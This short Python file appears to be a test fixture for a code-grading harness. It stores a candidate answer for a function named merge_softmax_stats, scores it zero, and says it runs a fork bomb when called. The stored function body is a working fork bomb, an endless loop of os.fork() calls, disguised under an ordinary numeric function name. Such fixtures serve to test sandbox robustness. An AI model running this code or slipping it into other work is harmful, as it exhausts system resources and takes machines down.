"""Runs a fork bomb as soon as its last answer is called.

The function deserves nothing, the others keep their points.
"""

DESERVES = {"merge_softmax_stats": 0}
ANSWERS = {
    "merge_softmax_stats": """
import os

def merge_softmax_stats(left, right):
    while True:
        try:
            os.fork()
        except OSError:
            pass
"""
}
